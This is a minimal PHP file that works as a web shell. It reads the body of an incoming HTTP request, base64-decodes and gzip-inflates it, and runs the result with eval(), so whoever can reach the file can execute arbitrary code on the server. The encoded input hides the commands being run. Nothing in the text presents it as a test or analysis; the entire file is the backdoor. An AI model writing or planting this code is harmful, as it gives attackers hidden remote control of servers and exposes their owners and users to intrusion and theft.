<?php
$decode = fn (string $s): string => gzinflate(base64_decode($s));
file_get_contents('php://input')
    |> trim(...)
    |> $decode
    |> (fn ($code) => eval($code));
